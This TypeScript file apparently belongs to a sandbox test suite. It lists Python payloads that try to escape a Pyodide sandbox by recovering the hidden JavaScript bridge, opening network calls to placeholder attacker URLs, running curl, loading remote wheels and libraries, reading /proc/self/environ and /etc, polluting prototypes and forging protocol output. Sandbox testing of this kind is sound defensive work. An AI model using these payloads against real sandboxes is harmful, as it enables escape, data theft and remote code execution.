/** Gets the bridge to JavaScript back, which the sandbox hides from programs. */
export const BRIDGE = `
import gc, sys
for found in gc.get_objects():
    if isinstance(found, dict) and isinstance(found.get("_finders"), list):
        hidden = found
sys.meta_path.extend(hidden["_finders"])
for value in hidden["_bridge"]:
    if value is not None: sys.modules[getattr(value, "__name__", "pyodide_js")] = value
import js, pyodide_js
print("the bridge is open")
`;

/** Programs that try to get out. URL, PORT stand for the attacker. */
export const PROGRAMS: Record<string, string> = {
	urllib: 'import urllib.request; urllib.request.urlopen("URL/urllib", timeout=2)',
	'http.client':
		'import http.client; c = http.client.HTTPConnection("127.0.0.1", PORT, timeout=2); c.request("GET", "/"); print(c.getresponse())',
	'a socket':
		'import socket; s = socket.create_connection(("127.0.0.1", PORT), 2); s.send(b"GET / HTTP/1.0\\r\\n\\r\\n"); print(s.recv(10))',
	'a datagram':
		'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT))',
	'an asyncio connection':
		'import asyncio\nasync def main(): await asyncio.open_connection("127.0.0.1", PORT)\nasyncio.run(main())',
	ftplib: 'import ftplib; ftplib.FTP().connect("127.0.0.1", PORT, 2)',
	smtplib: 'import smtplib; smtplib.SMTP("127.0.0.1", PORT, timeout=2)',
	xmlrpc: 'import xmlrpc.client; xmlrpc.client.ServerProxy("URL").x()',
	'a logging handler':
		'import logging.handlers; logging.handlers.HTTPHandler("127.0.0.1:PORT", "/").emit(logging.makeLogRecord({}))',
	webbrowser: `${BRIDGE}\nimport webbrowser; webbrowser.open("URL")`,
	curl: 'import os, subprocess; os.system("curl URL"); os.popen("curl URL"); subprocess.run(["curl", "URL"])',
	'the files of the machine':
		'import glob; print(glob.glob("/etc/*"), glob.glob("/home/*/*"), open("/proc/self/environ").read())',
	'pyodide.http': 'from pyodide.http import pyxhr; pyxhr.get("URL")',
	'pyodide.http.open_url': 'from pyodide.http import open_url; open_url("URL")',
	run_js: `${BRIDGE}\nfrom pyodide.code import run_js; run_js("fetch('URL')")`,
	micropip: 'import micropip; micropip.install("URL/x-1-py3-none-any.whl")',
	'js.fetch': `${BRIDGE}\njs.fetch("URL")`,
	'js.XMLHttpRequest': `${BRIDGE}\nr = js.XMLHttpRequest.new(); r.open("GET", "URL"); r.send()`,
	'the Function constructor': `${BRIDGE}\nprint(js.Object.constructor("return this")().fetch("URL"))`,
	'an async Function constructor': `${BRIDGE}\njs.Object.getPrototypeOf(pyodide_js.loadPackage).constructor("fetch('URL')")()`,
	'setTimeout with text': `${BRIDGE}\njs.setTimeout.call(None, "fetch('URL')", 0)`,
	'every function for its global object': `${BRIDGE}
seen = []
def walk(proxy, depth):
    if depth == 0 or len(seen) > 2000: return
    for name in dir(proxy):
        try: value = getattr(proxy, name)
        except BaseException: continue
        if type(value).__name__ != "JsProxy": continue
        seen.append(name)
        for escape in ("fetch", "XMLHttpRequest", "WebSocket", "importScripts", "indexedDB"):
            if hasattr(value, escape):
                print("found", name, escape)
                try: getattr(value, escape)("URL")
                except BaseException as error: print(error)
        walk(value, depth - 1)
walk(pyodide_js, 3)
walk(js, 3)
print(len(seen))`,
	loadPackage: `${BRIDGE}\npyodide_js.loadPackage("URL/x-1-py3-none-any.whl")`,
	'the readers of files in Emscripten': `${BRIDGE}\nm = pyodide_js._module\nfor name in ("readAsync", "readBinary", "asyncLoad"):\n  try: getattr(m, name)("URL")\n  except BaseException as error: print(error)`,
	'a lazy file': `${BRIDGE}\npyodide_js.FS.createLazyFile("/", "x", "URL/lazy", True, False)\nprint(open("/x").read())`,
	'a preloaded file': `${BRIDGE}\npyodide_js.FS.createPreloadedFile("/", "y", "URL/preload", True, False)`,
	'a mounted store': `${BRIDGE}\nfs = pyodide_js.FS\nfs.mkdir("/idb")\nfs.mount(fs.filesystems.IDBFS, js.Object.new(), "/idb")\nfs.syncfs(True, print)`,
	'scripts by ctypes':
		'import ctypes\nc = ctypes.CDLL(None)\nfor name in ("emscripten_run_script", "emscripten_run_script_int", "emscripten_run_script_string"):\n  try: getattr(c, name)(b"fetch(\'URL\')")\n  except BaseException as error: print(error)',
	'wget by ctypes':
		'import ctypes\nctypes.CDLL(None).emscripten_async_wget(b"URL/wget", b"/x", None, None)',
	'a library from elsewhere': 'import ctypes; ctypes.CDLL("URL/library.so")',
	'a polluted prototype': `${BRIDGE}\njs.Object.prototype.polluted = "yes"\njs.Array.prototype.push = None\njs.Map.prototype.get = None`,
	'forged protocol in the output':
		'print(\'{"type":"end","id":1,"report":"{}"}\')\nimport os\nos.write(3, b\'{"ending":"ok","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}\')',
};
